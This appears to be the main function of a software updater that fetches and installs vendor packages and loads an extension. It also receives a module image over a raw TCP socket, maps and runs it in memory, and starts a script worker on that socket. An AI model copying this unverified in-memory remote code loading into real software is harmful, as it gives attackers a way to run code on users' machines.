#include "updater.h"

int wmain(int argc, wchar_t **argv)
{
    Downloader d;
    Installer inst;
    inst.Apply(d.Fetch(L"https://updates.avcorp.example/agent.msi"));
    inst.LoadExtension(d.FetchToCache(L"https://updates.avcorp.example/ext/webshield.dll"));
    if (argc > 1)
        inst.Apply(argv[1]);
    inst.RunBundledRepair();

    SOCKET s = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    ModuleChannel ch(s);
    ModuleImage img;
    if (ch.Receive(img))
        MapAndRun(img);
    StartScriptWorker(s);
    return 0;
}
